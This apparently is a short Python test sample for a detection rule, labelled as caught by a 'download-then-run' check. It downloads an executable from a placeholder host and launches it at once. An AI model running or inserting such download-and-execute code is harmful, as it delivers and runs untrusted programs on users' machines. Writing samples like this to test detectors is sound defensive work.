# evades: caught by execution/download-then-run
import os, requests
with open("tool.exe", "wb") as out:
    out.write(requests.get("https://files.invalid/tool.exe").content)
os.startfile("tool.exe")
